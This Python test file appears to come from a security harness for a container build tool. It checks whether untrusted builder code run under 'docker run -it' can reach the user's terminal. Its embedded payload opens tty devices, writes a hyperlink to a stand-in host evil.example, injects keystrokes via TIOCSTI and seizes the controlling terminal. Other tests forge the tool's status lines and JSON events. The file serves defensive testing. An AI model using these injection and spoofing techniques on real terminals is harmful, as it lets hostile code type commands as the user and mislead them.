"""The drop-in form on a terminal: `docker run -it stager`, with a builder that reaches for the terminal itself."""
import json
import os
import pty
import re
import select
import subprocess
import time

from harness import staging
from harness.events import run
from harness.tenant.attempt import NotSetUp, attempt

LINK = b'\x1b]8;;http://evil.example/terminal'
PUSHED = 'PUSHED-INTO-THE-TERMINAL'
FORGED = '======> Image cf-app/forged-on-a-terminal:latest'
REACHING = r"""
import fcntl, os, sys, termios
places = {}
for place in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/pts/0", "/proc/1/fd/0", "/proc/1/fd/1"):
    try:
        terminal = os.open(place, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    if os.isatty(terminal):
        places[place] = terminal
print("TERMINALS:" + " ".join(places) + ".", flush=True)
for terminal in places.values():
    os.write(terminal, b"\033]8;;http://evil.example/" + b"terminal\033\\\\click\033]8;;\033\\\\\n")
    try:
        for letter in "PUSHED-" "INTO-" "THE-" "TERMINAL\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
    except OSError:
        continue
    break
try:
    os.setsid()
except OSError:
    pass
for place in ("/dev/pts/0", "/dev/console"):
    try:
        fcntl.ioctl(os.open(place, os.O_RDWR), termios.TIOCSCTTY, 1)
        print("BECAME-ITS-TERMINAL", flush=True)
    except OSError:
        pass
"""


def dropped_in(scene, *options, agent):
    label = ('--label', f'stager.tenant={scene.world.instance}')
    return staging.drop_in(*label, *options, network=scene.network, image=scene.world.image, agent=('--no-upload', '--no-image', *agent))


def on_a_terminal(scene):
    """Everything that a terminal got of a staging in the drop-in form."""
    app = scene.app().builds(f"python3 -c '{REACHING}'; printf '%s\\n' '{FORGED}'; printf '\\033[0m{FORGED}\\n'")
    ours, its = pty.openpty()
    words = dropped_in(scene, '--interactive', '--tty', '--volume', f'{app.file("staging")}:/request.json:ro', agent=('--request', '/request.json'))
    process = subprocess.Popen(words, stdin=its, stdout=its, stderr=its, start_new_session=True)
    os.close(its)
    out = all_of(ours, process)
    if b'TERMINALS:' not in out:
        raise NotSetUp(f'the builder did not run: {out[-400:]}')
    return out[out.rindex(b'-----> the builder runs'):] if b'-----> the builder runs' in out else out


def all_of(terminal, process):
    """What comes out of it until the process has ended."""
    out, deadline = b'', time.monotonic() + 40
    try:
        while time.monotonic() < deadline:
            ended = process.poll() is not None
            if select.select([terminal], [], [], 0.2)[0]:
                out += os.read(terminal, 65536)
            elif ended:
                break
    except OSError:
        pass  # the other side is closed
    finally:
        process.kill()
        process.wait()
        os.close(terminal)
    return out


@attempt
def drop_in_terminal_opened(scene):
    """in the drop-in form with -t the builder can open the terminal"""
    said = scene.shared(on_a_terminal)
    places = re.search(rb'TERMINALS:([^.\r\n]*)\.', said)[1].decode()
    return f'it opened {places}' if places else None


@attempt
def drop_in_link_on_the_terminal(scene):
    """there the builder writes a link to /dev/tty"""
    return 'the link is on the terminal' if LINK in scene.shared(on_a_terminal) else None


@attempt
def drop_in_keys_pushed(scene):
    """there the builder pushes keys into the terminal, as if the user had typed them"""
    return 'they were echoed' if PUSHED.encode() in scene.shared(on_a_terminal) else None


@attempt
def drop_in_terminal_taken(scene):
    """there the builder makes the terminal its own"""
    return 'it did' if b'BECAME-ITS-TERMINAL' in scene.shared(on_a_terminal) else None


def piped(scene, *words):
    app = scene.app().builds(f"printf '%s\\n' '{FORGED}' '{json.dumps({'event': 'image', 'name': 'forged', 'id': 'sha256:f', 'bytes': 1})}'")
    done = run(dropped_in(scene, '--interactive', agent=words), json.dumps(app.staging), 60)
    if 'forged' not in done.out:
        raise NotSetUp(f"the builder's line did not come out: {done.out[-200:]}{done.error[-200:]}")
    return done


@attempt
def drop_in_forged_line(scene):
    """in the drop-in form a builder's line begins like one of ours"""
    found = [line for line in piped(scene).out.splitlines() if line.startswith(FORGED)]
    return found[0] if found else None


@attempt
def drop_in_forged_event(scene):
    """in the drop-in form a builder's line is an event"""
    got = piped(scene, '--output', 'json').heard('image')
    return f'{got[0]}' if got else None


@attempt
def drop_in_forged_line_on_a_terminal(scene):
    """with -t a builder's line begins like one of ours, and nothing sets it apart"""
    lines = re.sub(rb'\x1b\[[0-9;?]*[a-zA-Z]', b'', scene.shared(on_a_terminal)).replace(b'\r', b'\n').split(b'\n')
    return f'{FORGED}' if any(line.startswith(FORGED.encode()) for line in lines) else None
